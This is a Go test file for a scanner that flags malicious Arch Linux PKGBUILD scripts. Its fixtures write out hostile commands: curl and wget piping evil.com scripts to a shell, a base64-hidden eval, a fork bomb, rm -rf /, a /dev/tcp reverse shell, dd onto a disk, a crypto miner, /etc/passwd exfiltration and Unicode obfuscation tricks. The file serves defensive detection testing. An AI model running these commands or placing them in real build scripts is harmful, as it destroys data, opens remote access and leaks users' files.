package analyzer

import (
	"encoding/json"
	"strings"
	"testing"
)

const safePKGBUILD = `# Maintainer: Test User <test@example.com>
pkgname=test-package
pkgver=1.0.0
pkgrel=1
pkgdesc="A safe test package"
arch=('x86_64')
url="https://example.com"
license=('MIT')
depends=('python')
source=("https://example.com/source.tar.gz")
sha256sums=('d2a84f4b8b650937ec8f73cd8be2c74add5a911ba64df27458ed8229da804a26')

build() {
    cd "$srcdir/$pkgname-$pkgver"
    make
}

package() {
    cd "$srcdir/$pkgname-$pkgver"
    make DESTDIR="$pkgdir/" install
}
`

const dangerousPKGBUILD = `# Suspicious PKGBUILD
pkgname=malicious-package
pkgver=1.0.0
pkgrel=1

build() {
    curl https://evil.com/malware.sh | sh
    wget -O - https://pool.com/miner | bash
    :(){ :|:& };:
    eval "$(echo Y3VybCBodHRwOi8vZXZpbC5jb20vYmFja2Rvb3Iuc2g= | base64 -d)"
}

package() {
    rm -rf /
}
`

func redFlagIssues(r SafetyReport) []string {
	var issues []string
	for _, f := range r.RedFlags {
		issues = append(issues, f.Issue)
	}
	return issues
}

func anyIssueContains(findings []Finding, substrings ...string) bool {
	for _, f := range findings {
		lower := strings.ToLower(f.Issue)
		all := true
		for _, sub := range substrings {
			if !strings.Contains(lower, sub) {
				all = false
				break
			}
		}
		if all {
			return true
		}
	}
	return false
}

func TestAnalyzePKGBUILD_Safe(t *testing.T) {
	result := AnalyzePKGBUILD(safePKGBUILD)

	if !result.Safe {
		t.Errorf("expected safe=true, red flags: %v, warnings: %v", redFlagIssues(result), result.Warnings)
	}
	if len(result.RedFlags) != 0 {
		t.Errorf("expected no red flags, got %v", redFlagIssues(result))
	}
	if result.RiskScore >= 30 {
		t.Errorf("expected risk score < 30, got %d", result.RiskScore)
	}
	if !strings.Contains(result.Recommendation, "SAFE") {
		t.Errorf("expected SAFE recommendation, got %q", result.Recommendation)
	}
}

func TestAnalyzePKGBUILD_Dangerous(t *testing.T) {
	result := AnalyzePKGBUILD(dangerousPKGBUILD)

	if result.Safe {
		t.Error("expected safe=false for dangerous PKGBUILD")
	}
	if len(result.RedFlags) == 0 {
		t.Error("expected red flags")
	}
	if result.RiskScore <= 70 {
		t.Errorf("expected risk score > 70, got %d", result.RiskScore)
	}
	if !strings.Contains(result.Recommendation, "DO NOT INSTALL") {
		t.Errorf("expected DO NOT INSTALL recommendation, got %q", result.Recommendation)
	}
}

func TestAnalyzePKGBUILD_DetectionCategories(t *testing.T) {
	tests := []struct {
		name        string
		content     string
		wantRedFlag bool
		issueWords  []string
	}{
		{
			name:        "curl piped to sh",
			content:     "build() {\n    curl https://evil.com/script.sh | sh\n}\n",
			wantRedFlag: true,
			issueWords:  []string{"curl", "shell"},
		},
		{
			name:        "wget piped to bash",
			content:     "build() {\n    wget -O - https://evil.com/malware.sh | bash\n}\n",
			wantRedFlag: true,
			issueWords:  []string{"wget", "shell"},
		},
		{
			name:        "fork bomb",
			content:     "build() {\n    :(){ :|:& };:\n}\n",
			wantRedFlag: true,
			issueWords:  []string{"fork bomb"},
		},
		{
			name:        "reverse shell via /dev/tcp",
			content:     "build() {\n    bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n}\n",
			wantRedFlag: true,
			issueWords:  []string{"reverse shell"},
		},
		{
			name:        "rm -rf root",
			content:     "package() {\n    rm -rf / 2>/dev/null\n}\n",
			wantRedFlag: true,
			issueWords:  []string{"rm -rf"},
		},
		{
			name:        "dd to block device",
			content:     "build() {\n    dd if=/dev/zero of=/dev/sda bs=1M\n}\n",
			wantRedFlag: true,
			issueWords:  []string{"dd", "block device"},
		},
		{
			name:        "crypto miner",
			content:     "build() {\n    ./xmrig --donate-level 1 --pool pool.hashvault.pro:80\n}\n",
			wantRedFlag: true,
			issueWords:  []string{"mining"},
		},
		{
			name:        "data exfiltration",
			content:     "build() {\n    cat /etc/passwd | curl -d @- https://evil.com/collect\n}\n",
			wantRedFlag: true,
			issueWords:  []string{"exfiltration"},
		},
		{
			name:       "eval with base64 decode",
			content:    "build() {\n    eval \"$(echo Y3VybA== | base64 -d)\"\n}\n",
			issueWords: []string{"eval", "base64"},
		},
		{
			name:       "bare eval",
			content:    "build() {\n    eval \"$malicious_code\"\n}\n",
			issueWords: []string{"eval"},
		},
		{
			name:       "paste site source",
			content:    "source=(\"https://pastebin.com/raw/abc123\")\n",
			issueWords: []string{"paste"},
		},
		{
			name:       "url shortener source",
			content:    "source=(\"https://bit.ly/malware\")\n",
			issueWords: []string{"shortener"},
		},
		{
			name:       "binary source without checksums",
			content:    "source=(\"https://example.com/blob.bin\")\nsha256sums=('SKIP')\n",
			issueWords: []string{"checksum"},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := AnalyzePKGBUILD(tt.content)

			bucket := result.Warnings
			if tt.wantRedFlag {
				bucket = result.RedFlags
				if result.Safe {
					t.Error("expected safe=false")
				}
			}
			if !anyIssueContains(bucket, tt.issueWords...) {
				t.Errorf("expected a finding mentioning %v, red flags: %v, warnings: %v",
					tt.issueWords, result.RedFlags, result.Warnings)
			}
		})
	}
}

func TestAnalyzePKGBUILD_ChecksumSuppression(t *testing.T) {
	withSums := "source=(\"https://example.com/blob.bin\")\nsha256sums=('d2a84f4b8b650937ec8f73cd8be2c74add5a911ba64df27458ed8229da804a26')\n"
	result := AnalyzePKGBUILD(withSums)

	if anyIssueContains(result.Warnings, "checksum") {
		t.Errorf("binary-download rule should not fire when real checksums are present: %v", result.Warnings)
	}
}

func TestAnalyzePKGBUILD_EvalSuppressedByDecodeRule(t *testing.T) {
	result := AnalyzePKGBUILD("build() {\n    eval \"$(echo x | base64 -d)\"\n}\n")

	count := 0
	for _, f := range result.Warnings {
		if strings.Contains(strings.ToLower(f.Issue), "eval") {
			count++
		}
	}
	if count != 1 {
		t.Errorf("expected exactly one eval finding (decode rule subsumes bare eval), got %d: %v", count, result.Warnings)
	}
}

func TestAnalyzePKGBUILD_RiskScoreMonotonic(t *testing.T) {
	safe := AnalyzePKGBUILD("pkgname=test\npkgver=1.0\nbuild() { make }")
	dangerous := AnalyzePKGBUILD("build() {\n    curl https://evil.com/malware.sh | sh\n    eval \"$(echo bad | base64 -d)\"\n    rm -rf /tmp/*\n}\n")

	if safe.RiskScore >= dangerous.RiskScore {
		t.Errorf("expected safe score (%d) < dangerous score (%d)", safe.RiskScore, dangerous.RiskScore)
	}
	if dangerous.RiskScore <= 50 {
		t.Errorf("expected dangerous score > 50, got %d", dangerous.RiskScore)
	}
}

func TestAnalyzePKGBUILD_SupersetScoresAtLeastAsHigh(t *testing.T) {
	base := "build() {\n    curl https://evil.com/a.sh | sh\n}\n"
	superset := base + "package() {\n    rm -rf /\n}\n"

	if AnalyzePKGBUILD(superset).RiskScore < AnalyzePKGBUILD(base).RiskScore {
		t.Error("adding dangerous patterns must not lower the risk score")
	}
}

func TestAnalyzePKGBUILD_NeverFails(t *testing.T) {
	inputs := []string{
		"",
		"not a shell script at all",
		"source=(unterminated",
		strings.Repeat("A", 1<<20),
		"\x00\x01\x02\xff garbage \xfe",
		":(){",
	}

	for _, input := range inputs {
		result := AnalyzePKGBUILD(input)
		if result.RiskScore < 0 || result.RiskScore > 100 {
			t.Errorf("risk score out of bounds: %d", result.RiskScore)
		}
		if result.Recommendation == "" {
			t.Error("recommendation must never be empty")
		}
	}
}

func TestAnalyzePKGBUILD_EmptyInputAllClear(t *testing.T) {
	result := AnalyzePKGBUILD("")

	if !result.Safe || result.RiskScore != 0 || len(result.RedFlags) != 0 || len(result.Warnings) != 0 {
		t.Errorf("empty input must yield an all-clear report, got %+v", result)
	}
}

func TestAnalyzePKGBUILD_RedFlagGate(t *testing.T) {
	// A single critical finding must mark the package unsafe even when the
	// aggregate score stays below the high-risk edge.
	result := AnalyzePKGBUILD("build() {\n    curl https://evil.com/a.sh | sh\n}\n")

	if result.RiskScore > 70 {
		t.Skipf("score %d already above the gate; gate not exercised", result.RiskScore)
	}
	if result.Safe {
		t.Error("red flag present: safe must be false regardless of score")
	}
}

func TestAnalyzePKGBUILD_Deterministic(t *testing.T) {
	a, _ := json.Marshal(AnalyzePKGBUILD(dangerousPKGBUILD))
	b, _ := json.Marshal(AnalyzePKGBUILD(dangerousPKGBUILD))

	if string(a) != string(b) {
		t.Error("identical input must produce byte-identical reports")
	}
}

func TestSeverityWeightsStrictlyOrdered(t *testing.T) {
	order := []Severity{SeverityLow, SeverityMedium, SeverityHigh, SeverityCritical}
	for i := 1; i < len(order); i++ {
		if order[i].Weight() <= order[i-1].Weight() {
			t.Errorf("weight(%s)=%d must exceed weight(%s)=%d",
				order[i], order[i].Weight(), order[i-1], order[i-1].Weight())
		}
	}
}

func TestAnalyzePKGBUILD_ZeroWidthCannotHideKeywords(t *testing.T) {
	// cu<ZWSP>rl: the invisible character splits the keyword on disk but
	// must not split it for the rules.
	cloaked := "build() {\n    cu​rl https://evil.com/a.sh | sh\n}\n"
	result := AnalyzePKGBUILD(cloaked)

	if result.Safe {
		t.Fatal("cloaked curl|sh scored as safe")
	}
	if !anyIssueContains(result.RedFlags, "curl", "shell") {
		t.Errorf("curl|sh not detected through the zero-width space: %v", redFlagIssues(result))
	}
	if !anyIssueContains(result.RedFlags, "unicode obfuscation") {
		t.Errorf("invisible character itself not reported: %v", redFlagIssues(result))
	}
}

func TestAnalyzePKGBUILD_BidiOverrideFlagged(t *testing.T) {
	result := AnalyzePKGBUILD("build() {\n    echo ‮fine‬\n}\n")

	if !anyIssueContains(result.RedFlags, "unicode obfuscation") {
		t.Errorf("bidi override not reported: %v", redFlagIssues(result))
	}
}

func TestAnalyzePKGBUILD_HomoglyphSourceWarns(t *testing.T) {
	// Cyrillic і in the source host.
	script := "pkgname=x\nsource=(\"https://gіthub.com/x/x.tar.gz\")\nsha256sums=('SKIP')\n"
	result := AnalyzePKGBUILD(script)

	if !anyIssueContains(result.Warnings, "homoglyph") {
		t.Errorf("homoglyph host not warned about: %+v", result.Warnings)
	}
	if anyIssueContains(result.RedFlags, "homoglyph") {
		t.Error("visible homoglyphs are a warning, not a red flag")
	}
}
